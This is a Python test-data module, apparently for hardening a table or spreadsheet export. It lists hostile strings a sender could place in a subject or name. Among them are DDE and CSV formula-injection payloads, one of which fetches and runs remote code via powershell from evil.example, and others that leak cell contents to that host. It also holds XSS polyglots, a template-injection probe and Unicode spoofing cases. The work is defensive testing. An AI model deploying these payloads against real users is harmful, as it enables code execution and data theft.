"""Texts a sender can put into a subject, a notation or a name, to hurt whoever opens the table."""

from __future__ import annotations

import unicodedata
from collections.abc import Iterator

LONG = "Văn bản dài " * 3334  # more than 40,000 characters

FORMULAS = [
    "=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "@SUM(1,1)", "+1+1", "-1-1",
    "-2+3+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "=cmd|' /C powershell IEX(wget evil.example/x)'!A0",
    "@cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", '=WEBSERVICE("http://evil.example/"&A1)',
    "=IMPORTXML(CONCAT(\"http://evil.example?v=\",A1),\"//a\")", '=IMAGE("http://evil.example/x.png")', "{=1+1}",
    "=2+5+cmd|' /C calc'!A0", '=IF(1,"a","b")', "=A1", "=", "+", "-", "@", "==1+1", "=\t1+1", "=1+1;=1+1", '";=1+1',
    "x;=1+1", "a\n=1+1", "a\r\n=1+1", "a\r=1+1", "=_xlfn.STOCKHISTORY(1)", "=LET(a,1,a)", "%0A-3+3+cmd|' /C calc'!D2",
    "-0912345678", "+84 24 1234 5678", "- Như trên;\n- Lưu: VT.",
]  # fmt: skip
FRONTS = [
    "\t", "\r", "\n", "\r\n", " ", "   ", "\u00a0", "\u2003", "\u3000", "\u200b", "\u200c", "\u200d", "\u2060",
    "\ufeff", "\u00ad", "\u202a", "\u202e", "\u2066", "\u2069", "\u061c", "\u034f", "\u115f", "\u1160", "\u3164",
    "\uffa0", "\u2800", "\ufe0f", "\u180e", "\U000e0020", "\u0085", "\u2028", "\u2029", "\x0b", "\x0c", "\x1b",
    "\x7f", "\x00", " \u200b\t ", "\u0301",
]  # fmt: skip
MARKUP = [
    "<script>alert(1)</script>", "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "</bdi></td></tr></table><script>alert(1)</script>", '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>", "<!--", "-->", "<!-- --!> <script>alert(1)</script>", "]]>",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?>", "<!DOCTYPE html [<!ENTITY x 'y'>]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&amp;", "&", "&nbsp;", "&#0;", "&#x202e;",
    "<a href='javascript:alert(1)'>x</a>",
    (
        "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/"
        "+alert(1)//'>"
    ),
    (
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/<"
        "/scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"
    ),
    "<style>@import 'http://evil.example/x.css';</style>", "<base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>", "<iframe src=http://evil.example>",
    "<object data=x>", "<link rel=stylesheet href=http://evil.example>",
    "<form action=http://evil.example><input></form>", "{{ 7*7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}", "{# x #}", "${7*7}", "#{7*7}",
    "%s %(x)s {0} {x.__class__}", "<r>x</r>", "<r></r>", "<r><t>x</t></r>",
    '<r><t>x</t></r></is></c><c r="ZZ9"><f>cmd|" /C calc"!A0</f><v>1</v></c><c t="inlineStr"><is><r><t>y</t></r>',
    "<f>1+1</f>", "<c><f>1+1</f></c>", "_x0041_", "_x003D_1+1", "_x005F_x0041_", "_x0041_x0042_", "_x000d_",
    "_x0000_", "_xD800_", "_x", "http://evil.example/", "https://evil.example/a?b=c#d", "mailto:a@evil.example",
    "file:///etc/passwd", "\\\\evil.example\\share", "internal:Sheet1!A1", "external:evil.xlsx", "ftp://evil.example",
    "onclick=alert(1)", "x' onmouseover='alert(1)", 'x" onmouseover="alert(1)', "`x`",
]  # fmt: skip
WRITING = [
    "", " ", "  hai dấu cách  ", "'", "''", '"', '""', '"""', ";", ";;", "a;b", 'a"b', 'a";"b', "a\nb", "a\r\nb",
    "a\rb", "a\n", "\na", "\n", "\n\n", ",", "a,b", "a\tb", "|", "\\", "\\n", "sep=;", "NULL", "None", "TRUE",
    "#REF!", "#N/A", "0012", "1E5", "1/2", "12-05", "1,5", "1.234.567", "999999999999999999", "12:30",
    "Quyết định số 12/QĐ-BGTVT", unicodedata.normalize("NFD", "Quyết định về việc sửa đổi, bổ sung quy chế"),
    "đĐ ăâêôơư ÀÁẢÃẠ", "e\u0302\u0323", "Z\u0351\u036b\u0343" * 40, "🇻🇳", "👩‍👩‍👧‍👦", "😀" * 50, "𝕏", "\U0010fffd",
    "مرحبا", "שלום", "abc\u202edocx.exe", "\u202eTGB/ĐQ", "\u2066\u2067\u2068", "\u202b\u202d x", "a\u200bb",
    "\ud800", "\udfff", "x\ud83dy", "\ude00\ud83d", "\ufffe", "\uffff", "\ufffd", "\ufdd0", "\U0001fffe", "\ufeff",
    "\u0080\u009f", "\x7f", "\0", "a\0b", "=\0", LONG, "x" * 32767, "x" * 32768, "😀" * 16383, "😀" * 16384,
    "a\n" * 300, "<" * 33000, "=" + "1+" * 20000 + "1", "-" * 500, " " * 40000,
]  # fmt: skip
STARTERS = "=+-@＝＋－＠﹦﹢﹣﹫"


def texts() -> list[str]:
    """All of them, each once."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    yield from FORMULAS + MARKUP + WRITING
    for starter in STARTERS:
        yield f"{starter}1+1"
        for front in FRONTS:
            yield f"{front}{starter}1+1"
    for code in [*range(0x20), *range(0x7F, 0xA0)]:
        yield f"{chr(code)}x"
        yield f"a{chr(code)}b"
        yield f"{chr(code)}=1+1"
